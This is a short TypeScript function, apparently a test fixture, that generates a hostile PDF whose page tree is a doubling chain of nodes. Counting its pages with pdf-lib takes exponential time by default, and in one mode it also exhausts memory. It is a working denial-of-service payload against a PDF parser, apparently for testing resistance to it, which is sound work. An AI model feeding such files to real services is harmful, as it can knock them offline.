/**
 * A hostile PDF: a few hundred bytes that pdf-lib reads at once, but whose page tree is a chain of `profondeur` « Pages »
 * nodes, each listing the next one twice among its kids. Counting its pages visits 2^profondeur nodes: at 40, hours of
 * CPU. Its last node is an empty « Pages » (the work is CPU only) or, with `pages`, a page (every visit then keeps
 * a reference: the memory grows as well, until it runs out).
 */
export function pdfArbreDePages(profondeur = 40, options: { pages?: boolean } = {}): Buffer {
  const objets = ["1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"];
  for (let n = 0; n < profondeur; n++) objets.push(`${n + 2} 0 obj\n<< /Type /Pages /Kids [${n + 3} 0 R ${n + 3} 0 R] /Count 1 >>\nendobj\n`);
  const dernier = profondeur + 2;
  objets.push(
    options.pages
      ? `${dernier} 0 obj\n<< /Type /Page /MediaBox [0 0 595 842] >>\nendobj\n`
      : `${dernier} 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`,
  );
  return Buffer.from(`%PDF-1.7\n${objets.join("")}trailer\n<< /Root 1 0 R /Size ${dernier + 1} >>\n%%EOF\n`);
}
